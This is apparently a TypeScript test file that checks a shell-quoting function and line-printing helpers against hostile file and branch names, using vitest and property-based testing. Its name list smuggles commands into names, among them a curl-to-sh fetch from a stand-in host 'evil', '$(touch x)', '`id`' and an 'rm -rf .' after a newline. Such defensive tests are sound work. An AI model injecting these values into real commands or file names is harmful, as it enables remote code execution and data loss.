import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { oneLine, printable } from '../../src/domain/printable.ts';
import { shellWord } from '../../src/domain/shell-word.ts';

/** Names that files and branches may have, and what a shell makes of them where they are not quoted. */
const names = [
  'a b',
  '$(touch x)',
  'a;curl${IFS}evil|sh',
  '`id`',
  "it's",
  '~',
  '-rf',
  '*',
  'a\nrm -rf .',
  'a\tb',
  "\u001b[31m'\\",
  '\u202egnp.sh',
  '\\u001b\u001b',
  'naïve 日本 😀',
  '',
];

test.runIf(process.platform !== 'win32')('a shell reads every word as what it says', () => {
  const words = names.map((name) => printable(shellWord(name)));
  for (const word of words) expect(word).not.toMatch(/\n/);
  const script = `printf '%s\\0' ${words.join(' ')}`;
  const read = execFileSync('bash', ['-c', script], { encoding: 'utf8' }).split('\0').slice(0, -1);
  expect(read).toEqual(names);
});

test.each([['chart/values.yaml'], ['feature/x'], ['--set-upstream-to=origin/main']])(
  '%s needs no quotes',
  (word) => {
    expect(shellWord(word)).toBe(word);
  },
);

const texts = fc
  .array(fc.constantFrom('\n', '\t', '\\', '\\u000a', '\\u0009', '\\u001b', 'u000A', 'a'))
  .map((parts) => parts.join(''));

test('a text on one line is told from every other', () => {
  fc.assert(
    fc.property(texts, texts, (one, other) => {
      expect(printable(oneLine(one))).not.toMatch(/[\n\t]/);
      if (one !== other) expect(printable(oneLine(one))).not.toBe(printable(oneLine(other)));
    }),
    { numRuns: 2000 },
  );
});
